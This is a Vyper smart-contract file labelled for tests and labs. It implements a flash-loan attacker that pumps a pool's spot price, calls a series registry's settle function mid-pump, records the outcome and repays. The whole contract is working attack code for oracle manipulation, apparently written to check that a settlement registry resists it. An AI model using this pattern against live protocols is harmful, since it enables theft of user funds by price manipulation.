# pragma version ~=0.4.3
# pragma nonreentrancy off
"""
@title Flash pump at settlement (tests and lab only)
@custom:contract-name SettlementPumpAttacker
@license GNU Affero General Public License v3.0 only
@notice The same-block settlement attack, in one transaction at or after
        expiry: flash-borrow `token` from the lender, swap all of it into
        the pool (USD in: spot up; WETH in: spot down), call
        `settle(id)` on the series registry while the pool is pumped,
        swap back, repay. A revert of the settle call is recorded, not
        propagated (`settle_ok`), so the lab can see a refusal and the
        attack still repays. Records `spot_pumped` and the settlement
        price the registry holds after the call (`settled_price`, 0 when
        the settle was refused or deferred). Fees come from its own
        pre-funded balance of `token`. Reentrancy guards are off on
        purpose: the lender calls back into it.
"""

from ethereum.ercs import IERC20

from ..market import IERC3156FlashBorrower
from ..market import IERC3156FlashLender
from ..market import ISpotPool
implements: IERC3156FlashBorrower

interface ISettlingSeries:
    def settlement_price(id: uint256) -> uint256: view

CALLBACK_SUCCESS: constant(bytes32) = keccak256("ERC3156FlashBorrower.onFlashLoan")

LENDER: public(immutable(IERC3156FlashLender))
POOL: public(immutable(ISpotPool))

target: public(address)  # the series registry settled mid-pump
target_id: public(uint256)
spot_pumped: public(uint256)
settle_ok: public(bool)
settled_price: public(uint256)


@deploy
def __init__(lender: IERC3156FlashLender, pool: ISpotPool):
    LENDER = lender
    POOL = pool


@external
def attack(token: address, amount: uint256, series: address, id: uint256):
    """
    @notice Borrow `amount` of `token`, pump with it, settle series `id`
            of `series`, dump, repay.
    """
    self.target = series
    self.target_id = id
    extcall LENDER.flashLoan(self, token, amount, b"")


@external
def onFlashLoan(initiator: address, token: address, amount: uint256, fee: uint256, data: Bytes[1024]) -> bytes32:
    assert msg.sender == LENDER.address, "attacker: not lender"
    other: address = staticcall POOL.token0()
    if other == token:
        other = staticcall POOL.token1()
    extcall IERC20(token).approve(POOL.address, amount)
    got: uint256 = extcall POOL.swap_exact_in(token, amount, 0, self)
    self.spot_pumped = staticcall POOL.spot_price()
    ok: bool = False
    response: Bytes[32] = b""
    ok, response = raw_call(
        self.target,
        abi_encode(self.target_id, method_id=method_id("settle(uint256)")),
        max_outsize=32,
        revert_on_failure=False,
    )
    self.settle_ok = ok
    self.settled_price = staticcall ISettlingSeries(self.target).settlement_price(self.target_id)
    extcall IERC20(other).approve(POOL.address, got)
    extcall POOL.swap_exact_in(other, got, 0, self)
    extcall IERC20(token).approve(LENDER.address, amount + fee)
    return CALLBACK_SUCCESS
